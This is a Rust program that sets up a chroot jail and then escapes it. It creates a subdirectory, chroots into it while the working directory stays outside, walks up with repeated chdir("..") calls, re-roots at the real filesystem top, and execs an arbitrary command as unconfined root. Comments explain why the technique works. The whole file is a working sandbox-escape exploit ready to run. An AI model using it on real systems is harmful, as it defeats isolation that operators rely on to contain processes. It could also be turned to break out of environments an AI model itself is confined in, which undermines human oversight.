//! Break out of a chroot, as root.
//!
//! A process has one root and one working directory. The kernel stops `..` at
//! the root, and nowhere else but at the top of all. So: get the two apart.

use std::env;
use std::error::Error;
use std::fs;
use std::os::unix::process::CommandExt;
use std::process::Command;

use nix::unistd::{chdir, chroot};

/// The jail. Leave it as it is.
fn lock_in() -> Result<(), Box<dyn Error>> {
    chroot("/srv/rootfs")?;
    chdir("/")?;
    Command::new("/bin/checkpoint").arg("jail").status()?;
    Ok(())
}

/// From here on `/` is /srv/rootfs of the machine.
fn break_out() -> Result<(), Box<dyn Error>> {
    // Any directory below will do. Who may not write can use one that is there.
    fs::create_dir("/hole")?;

    // Replaces the root; the kernel keeps no list of the roots before. The working
    // directory stays at the old one, which is now *outside*. CAP_SYS_CHROOT is all
    // that this needs, and root in a jail has it.
    chroot("/hole")?;

    // Relative, so the walk begins outside, and going up it never meets the root
    // that would stop it. At the top `..` is the top itself.
    for _ in 0..16 {
        chdir("..")?;
    }

    // Out already; now absolute paths begin here again, too.
    chroot(".")?;
    Ok(())
}

fn main() -> Result<(), Box<dyn Error>> {
    let arguments: Vec<String> = env::args().skip(1).collect();
    let (program, rest) = arguments.split_first().ok_or("usage: work COMMAND...")?;

    lock_in()?;
    break_out()?;

    Err(Command::new(program).args(rest).exec().into())
}
